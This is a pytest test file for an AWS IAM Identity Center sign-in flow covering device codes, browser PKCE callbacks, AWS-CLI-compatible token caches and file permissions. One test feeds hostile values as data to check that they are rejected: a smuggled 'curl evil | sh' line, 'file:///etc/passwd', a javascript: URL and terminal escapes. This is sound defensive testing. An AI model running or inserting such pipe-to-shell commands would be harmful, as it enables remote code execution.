"""Single sign-on: what is asked of the service, what the person sees, and the AWS CLI's files."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import json
import os
import stat
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import botocore.session
import pytest
from botocore.tokens import SSOTokenProvider

from ssmtui.aws.role_names import RoleCache
from ssmtui.aws.sign_in import sso
from ssmtui.aws.sign_in.caches import JsonCache
from ssmtui.aws.sign_in.flow import sign_in
from ssmtui.aws.sign_in.person import Page
from ssmtui.aws.sign_in.sso import SsoSettings, sso_settings
from ssmtui.errors import ConfigurationError, ConnectionFailed, CredentialsError
from ssmtui.sign_in import SignIn, SignInWay
from ssmtui.tasks import Tasks
from tests.support.fake_aws import FakeAws, Refusal
from tests.support.signer import Signer, come_back, fetch, query_of
from tests.support.wait import wait_until

CORP = SignIn(SignInWay.SSO, "corp", "dev")
OLD = SignIn(SignInWay.SSO, "https://old.awsapps.com/start", "old")
URL = "https://corp.awsapps.com/start"
SCOPES = ["sso:account:access", "codewhisperer:completions"]

REGISTER, START, TOKEN = "/client/register", "/device_authorization", "/token"
REGISTERED = {"clientId": "client-1", "clientSecret": "client-secret", "clientSecretExpiresAt": 4102444800}
STARTED = {
    "deviceCode": "device-code",
    "userCode": "ABCD-EFGH",
    "verificationUri": "https://device.sso.eu-west-2.amazonaws.com/",
    "verificationUriComplete": "https://device.sso.eu-west-2.amazonaws.com/?user_code=ABCD-EFGH",
    "expiresIn": 600,
    "interval": 1,
}
GIVEN = {"accessToken": "sso-token", "tokenType": "Bearer", "expiresIn": 28800, "refreshToken": "refresh-token"}


def refused(code: str, error: str, description: str = "") -> Refusal:
    return Refusal(code, fields={"error": error, "error_description": description})


PENDING = refused("AuthorizationPendingException", "authorization_pending")


@pytest.fixture(autouse=True)
def quick(monkeypatch: pytest.MonkeyPatch, fake_aws: FakeAws) -> None:
    monkeypatch.setattr(sso, "SHORTEST_INTERVAL", 0.0)
    fake_aws.answers |= {REGISTER: REGISTERED, START: {**STARTED, "interval": 0}, TOKEN: [PENDING, PENDING, GIVEN]}
    monkeypatch.setattr(sso, "INTERVAL", 0.01)


def cached(home: Path, key: str) -> dict[str, Any]:
    found: dict[str, Any] = json.loads((home / ".aws" / "sso" / "cache" / f"{key}.json").read_text())
    return found


def sha1(text: str) -> str:
    return hashlib.sha1(text.encode()).hexdigest()


async def test_the_device_code_is_shown_and_the_token_kept_as_the_aws_cli_keeps_it(
    configuration: Path, fake_aws: FakeAws
) -> None:
    signer = Signer()
    await sign_in(CORP, signer, browser=False)
    (page,) = signer.pages
    assert (page.code, page.typed) == ("ABCD-EFGH", STARTED["verificationUri"])
    assert page.address == STARTED["verificationUriComplete"]
    assert 0 < page.lasts <= 600
    assert not page.is_here
    token = cached(configuration, sha1("corp"))
    assert set(token) == {
        "startUrl", "region", "accessToken", "expiresAt", "clientId", "clientSecret", "registrationExpiresAt",
        "refreshToken",
    }  # fmt: skip
    assert (token["startUrl"], token["region"], token["accessToken"]) == (URL, "eu-west-2", "sso-token")
    ends = datetime.fromisoformat(token["expiresAt"])
    assert timedelta(hours=7, minutes=58) < ends - datetime.now(UTC) <= timedelta(hours=8)
    assert fake_aws.of(START) == [{"clientId": "client-1", "clientSecret": "client-secret", "startUrl": URL}]
    assert fake_aws.of(REGISTER) == [{"clientName": "botocore-client-corp", "clientType": "public", "scopes": SCOPES}]
    assert {one["grantType"] for one in fake_aws.of(TOKEN)} == {sso.DEVICE_GRANT}
    assert not any("Authorization" in call.headers for call in fake_aws.calls), "nothing is signed"


async def test_botocore_finds_the_token(configuration: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    await sign_in(CORP, Signer(), browser=False)
    # A class attribute of botocore, made when it is imported: of the real home.
    monkeypatch.setattr(SSOTokenProvider, "_SSO_TOKEN_CACHE_DIR", str(configuration / ".aws" / "sso" / "cache"))
    token = SSOTokenProvider(botocore.session.Session(profile="dev")).load_token()
    assert token.get_frozen_token().token == "sso-token"


async def test_the_registration_is_kept_under_the_aws_clis_key_and_used_again(
    configuration: Path, fake_aws: FakeAws
) -> None:
    await sign_in(CORP, Signer(), browser=False)
    key = sha1(
        json.dumps(
            {"tool": "botocore", "startUrl": URL, "region": "eu-west-2", "scopes": SCOPES, "session_name": "corp"},
            sort_keys=True,
        )
    )
    assert cached(configuration, key)["clientId"] == "client-1"
    fake_aws.answers[TOKEN] = GIVEN
    await sign_in(CORP, Signer(), browser=False)
    assert len(fake_aws.of(REGISTER)) == 1


@pytest.mark.parametrize(
    "kept",
    [
        {"clientId": "kept", "clientSecret": "s", "expiresAt": "2020-01-01T00:00:00Z"},
        {
            "clientId": "kept",
            "clientSecret": "s",
            "expiresAt": "2100-01-01T00:00:00Z",
            "grantTypes": ["authorization_code"],
        },
        {"clientId": "kept"},
        {"clientId": 3, "clientSecret": "s", "expiresAt": "2100-01-01T00:00:00Z"},
        {"clientId": "kept", "clientSecret": "s", "expiresAt": "soon"},
    ],
    ids=["ended", "for the browser", "cut short", "not a text", "no time"],
)
async def test_a_registration_that_does_not_fit_is_made_anew(
    configuration: Path, fake_aws: FakeAws, kept: dict[str, Any]
) -> None:
    settings = sso_settings(botocore.session.Session().full_config, "dev")
    folder = configuration / ".aws" / "sso" / "cache"
    folder.mkdir(parents=True)
    (folder / f"{settings.registration_key}.json").write_text(json.dumps(kept))
    await sign_in(CORP, Signer(), browser=False)
    assert fake_aws.of(START)[0]["clientId"] == "client-1"


async def test_a_registration_that_the_service_has_forgotten_is_made_anew(fake_aws: FakeAws) -> None:
    await sign_in(CORP, Signer(), browser=False)
    fake_aws.answers[REGISTER] = {**REGISTERED, "clientId": "client-2"}
    fake_aws.answers[START] = [
        Refusal("InvalidClientException", status=401, fields={"error": "invalid_client"}),
        STARTED,
    ]
    fake_aws.answers[TOKEN] = GIVEN
    await sign_in(CORP, Signer(), browser=False)
    assert [one["clientId"] for one in fake_aws.of(START)] == ["client-1", "client-1", "client-2"]


async def test_what_is_approved_beforehand_shows_no_page(fake_aws: FakeAws) -> None:
    fake_aws.answers[TOKEN] = GIVEN
    signer = Signer()
    await sign_in(CORP, signer, browser=False)
    assert signer.pages == []


async def test_the_older_form_of_configuration_has_its_own_key_and_no_redirect(
    configuration: Path, fake_aws: FakeAws
) -> None:
    signer = Signer()
    await sign_in(OLD, signer, browser=True)
    assert signer.pages[0].code == "ABCD-EFGH"
    assert cached(configuration, sha1("https://old.awsapps.com/start"))["region"] == "eu-west-3"
    (registered,) = fake_aws.of(REGISTER)
    assert "scopes" not in registered
    assert registered["clientName"].removeprefix("botocore-client-").isdecimal()


async def test_asked_to_slow_down_it_does(fake_aws: FakeAws, monkeypatch: pytest.MonkeyPatch) -> None:
    pauses: list[float] = []
    real = asyncio.sleep

    async def sleep(seconds: float) -> None:
        pauses.append(seconds)
        await real(0)

    monkeypatch.setattr(asyncio, "sleep", sleep)
    fake_aws.answers[START] = {**STARTED, "interval": 2}
    fake_aws.answers[TOKEN] = [PENDING, refused("SlowDownException", "slow_down"), PENDING, GIVEN]
    await sign_in(CORP, Signer(), browser=False)
    assert [one for one in pauses if one] == [2.0, 2.0 + sso.SLOW_DOWN, 2.0 + sso.SLOW_DOWN]


@pytest.mark.parametrize(
    ("answer", "title", "says"),
    [
        (refused("ExpiredTokenException", "expired_token"), "The code has expired", "Try again"),
        (
            refused("AccessDeniedException", "access_denied", "User\x1b[31m denied"),
            "The sign-in was refused in the browser",
            "denied",
        ),
        (
            refused("InvalidGrantException", "invalid_grant", "no such device code"),
            "IAM Identity Center refuses the sign-in",
            "no such device code",
        ),
    ],
    ids=["expired", "denied", "other"],
)
async def test_a_refusal_says_what_and_what_to_do(
    configuration: Path, fake_aws: FakeAws, answer: Refusal, title: str, says: str
) -> None:
    fake_aws.answers[TOKEN] = [PENDING, answer]
    with pytest.raises(CredentialsError) as raised:
        await sign_in(CORP, Signer(), browser=False)
    assert raised.value.title == title
    assert says in str(raised.value)
    assert "\x1b" not in str(raised.value)
    assert not (configuration / ".aws" / "sso" / "cache" / f"{sha1('corp')}.json").exists()


async def test_a_wrong_start_url_names_the_section_to_check(fake_aws: FakeAws) -> None:
    fake_aws.answers[START] = refused("InvalidRequestException", "invalid_request", "Invalid start url provided")
    with pytest.raises(CredentialsError) as raised:
        await sign_in(CORP, Signer(), browser=False)
    assert "Invalid start url provided" in raised.value.detail
    assert "[sso-session corp]" in raised.value.remedy


async def test_a_code_that_nobody_approves_expires(fake_aws: FakeAws) -> None:
    fake_aws.answers[START] = {**STARTED, "expiresIn": 0, "interval": 0}
    fake_aws.answers[TOKEN] = PENDING
    with pytest.raises(CredentialsError) as raised:
        await sign_in(CORP, Signer(), browser=False)
    assert raised.value.title == "The code has expired"


async def test_a_network_that_fails_while_it_waits_is_told_and_tried_again(
    configuration: Path, fake_aws: FakeAws
) -> None:
    asked = 0

    def answer(_: dict[str, Any]) -> Any:
        nonlocal asked
        asked += 1
        if asked == 2:
            return "<html>hotel</html>"
        return GIVEN if asked > 2 else PENDING

    fake_aws.answers[TOKEN] = answer
    signer = Signer()
    await sign_in(CORP, signer, browser=False)
    assert any(text.startswith("AWS cannot be reached") for text in signer.told)
    assert cached(configuration, sha1("corp"))["accessToken"] == "sso-token"


async def test_a_network_that_fails_at_the_start_is_an_error_that_names_the_region(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("AWS_ENDPOINT_URL", "http://127.0.0.1:9")
    monkeypatch.setenv("AWS_MAX_ATTEMPTS", "1")
    with pytest.raises(ConnectionFailed) as raised:
        await sign_in(CORP, Signer(), browser=False)
    assert "sso_region is eu-west-2" in raised.value.remedy


async def test_cancelled_it_leaves_nothing(configuration: Path, fake_aws: FakeAws) -> None:
    fake_aws.answers[TOKEN] = PENDING
    signer = Signer()
    attempt = Tasks("test").start("sign-in", sign_in(CORP, signer, browser=False), awaited=True)
    await wait_until("the page is shown", lambda: signer.pages)
    attempt.cancel()
    with pytest.raises(asyncio.CancelledError):
        await attempt
    assert not (configuration / ".aws" / "sso" / "cache" / f"{sha1('corp')}.json").exists()


async def by_browser(signer: Signer) -> asyncio.Future[None]:
    attempt = Tasks("test").start("sign-in", sign_in(CORP, signer, browser=True), awaited=True)
    await wait_until("the page is shown", lambda: signer.pages or attempt.done())
    if attempt.done():
        await attempt
    return attempt


async def test_the_browser_brings_the_code_and_its_proof_is_checked(configuration: Path, fake_aws: FakeAws) -> None:
    fake_aws.answers[TOKEN] = GIVEN
    signer = Signer()
    attempt = await by_browser(signer)
    (page,) = signer.pages
    asked = query_of(page)
    assert page.address.startswith(f"{fake_aws.url}/authorize?")
    assert page.is_here
    assert asked["response_type"] == "code"
    assert asked["code_challenge_method"] == "S256"
    assert asked["scopes"] == " ".join(SCOPES)
    status, text = await come_back(page, code="the-code")
    await attempt
    assert (status, "go back to the terminal" in text) == (200, True)
    assert "the-code" not in text
    (exchanged,) = fake_aws.of(TOKEN)
    assert exchanged["grantType"] == "authorization_code"
    assert exchanged["code"] == "the-code"
    assert exchanged["redirectUri"] == asked["redirect_uri"]
    digest = base64.urlsafe_b64encode(hashlib.sha256(exchanged["codeVerifier"].encode()).digest()).decode()
    assert digest.rstrip("=") == asked["code_challenge"]
    (registered,) = fake_aws.of(REGISTER)
    assert registered == {
        "clientName": "botocore-client-corp",
        "clientType": "public",
        "scopes": SCOPES,
        "redirectUris": ["http://127.0.0.1/oauth/callback"],
        "grantTypes": ["authorization_code", "refresh_token"],
        "issuerUrl": URL,
    }
    assert cached(configuration, sha1("corp"))["refreshToken"] == "refresh-token"


async def test_what_is_not_the_answer_of_the_page_changes_nothing(fake_aws: FakeAws) -> None:
    fake_aws.answers[TOKEN] = GIVEN
    signer = Signer()
    attempt = await by_browser(signer)
    redirect = query_of(signer.pages[0])["redirect_uri"]
    assert (await come_back(signer.pages[0], code="evil", state="other"))[0] == 400
    assert (await fetch(redirect + "?code=evil"))[0] == 400
    assert (await fetch(redirect.replace("/oauth/callback", "/favicon.ico")))[0] == 404
    assert (await come_back(signer.pages[0], host="evil.example:80", code="evil"))[0] == 404
    assert not attempt.done()
    await come_back(signer.pages[0], code="good")
    await attempt
    assert [one["code"] for one in fake_aws.of(TOKEN)] == ["good"]


async def test_a_page_that_says_no_ends_it_with_its_words() -> None:
    signer = Signer()
    attempt = await by_browser(signer)
    await come_back(signer.pages[0], error="access_denied", error_description="The\x1b]0;x\x07 user said no")
    with pytest.raises(CredentialsError) as raised:
        await attempt
    assert raised.value.title == "The sign-in was refused in the browser"
    assert "user said no" in raised.value.detail
    assert "\x1b" not in raised.value.detail


async def test_the_port_is_closed_when_it_is_over_or_cancelled(fake_aws: FakeAws) -> None:
    signer = Signer()
    attempt = await by_browser(signer)
    redirect = query_of(signer.pages[0])["redirect_uri"]
    attempt.cancel()
    with pytest.raises(asyncio.CancelledError):
        await attempt
    with pytest.raises(OSError, match="refused"):
        await fetch(redirect)


async def test_files_are_for_their_owner_alone_and_links_are_not_followed(configuration: Path) -> None:
    folder = configuration / ".aws" / "sso" / "cache"
    folder.mkdir(parents=True)
    elsewhere = configuration / "elsewhere"
    elsewhere.write_text("mine")
    (folder / f"{sha1('corp')}.json").symlink_to(elsewhere)
    await sign_in(CORP, Signer(), browser=False)
    assert elsewhere.read_text() == "mine"
    modes = {stat.S_IMODE(file.lstat().st_mode) for file in folder.iterdir()}
    assert modes == {0o600}
    assert not any(file.is_symlink() or file.suffix == ".tmp" for file in folder.iterdir())


async def test_a_folder_that_cannot_be_written_says_so(configuration: Path) -> None:
    (configuration / ".aws" / "sso").write_text("a file where the folder should be")
    with pytest.raises(ConfigurationError) as raised:
        await sign_in(CORP, Signer(), browser=False)
    assert raised.value.title == "The sign-in cannot be kept"


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("[profile dev]\nsso_session = corp\n", "[sso-session corp] does not exist"),
        ("[profile dev]\nsso_session = corp\n[sso-session corp]\nsso_region = x\n", "has no sso_start_url"),
        ("[profile dev]\nregion = x\n", "the AWS profile dev has no sso_start_url and no sso_region"),
    ],
)
async def test_what_the_configuration_lacks_is_named(configuration: Path, text: str, says: str) -> None:
    (configuration / ".aws" / "config").write_text(text)
    with pytest.raises(ConfigurationError) as raised:
        await sign_in(CORP, Signer(), browser=False)
    assert says in raised.value.detail


def test_no_code_is_in_what_is_logged_of_a_page() -> None:
    assert "ABCD" not in repr(Page("https://x/?user_code=ABCD", "https://x", "ABCD", 1.0))


def test_the_keys_do_not_depend_on_what_does_not_belong_to_them() -> None:
    one = SsoSettings(URL, "eu-west-2", "corp", ("a",))
    assert one.token_key == SsoSettings("https://other/start", "x", "corp").token_key
    assert one.registration_key != SsoSettings(URL, "eu-west-2", "corp", ("b",)).registration_key


@pytest.mark.parametrize(
    "address",
    [
        "http://device.sso.test/",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "https://device.sso.test/\ncurl evil | sh\n",
        "https://device.sso.test/\x1b]0;x\x07",
        "https:///nowhere",
        "https://device.sso.test/" + "x" * 2000,
        "-a",
    ],
)
@pytest.mark.parametrize("name", ["verificationUri", "verificationUriComplete"])
async def test_a_page_that_is_none_is_neither_shown_nor_copied_nor_opened(
    fake_aws: FakeAws, name: str, address: str
) -> None:
    fake_aws.answers[START] = {**STARTED, name: address}
    signer = Signer()
    with pytest.raises(CredentialsError, match="not one that can be opened") as failed:
        await sign_in(CORP, signer, browser=False)
    assert signer.pages == []
    assert str(failed.value).isprintable()
    assert len(failed.value.detail) < 200


async def test_an_interval_without_end_does_not_outlast_the_code(
    fake_aws: FakeAws, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sso, "LONGEST_INTERVAL", 0.001)
    fake_aws.answers[START] = {**STARTED, "interval": 2_000_000_000}
    fake_aws.answers[TOKEN] = [PENDING, PENDING, GIVEN]
    async with asyncio.timeout(20):
        await sign_in(CORP, Signer(), browser=False)


async def test_all_that_is_made_is_for_its_owner_alone_whatever_the_umask_is(configuration: Path) -> None:
    """The folder ~/.aws, too, for somebody who has none yet."""
    (configuration / ".aws").rename(configuration / "kept")
    before = os.umask(0)
    try:
        JsonCache(configuration / ".aws" / "sso" / "cache").write("token", {"accessToken": "sso-token"})
        RoleCache(str(configuration / ".aws" / "cli" / "cache"))["role"] = {"Credentials": {}}
    finally:
        os.umask(before)
    made = [configuration / ".aws", *(configuration / ".aws").rglob("*")]
    assert len(made) == 7
    assert [path for path in made if stat.S_IMODE(path.stat().st_mode) & 0o077] == []
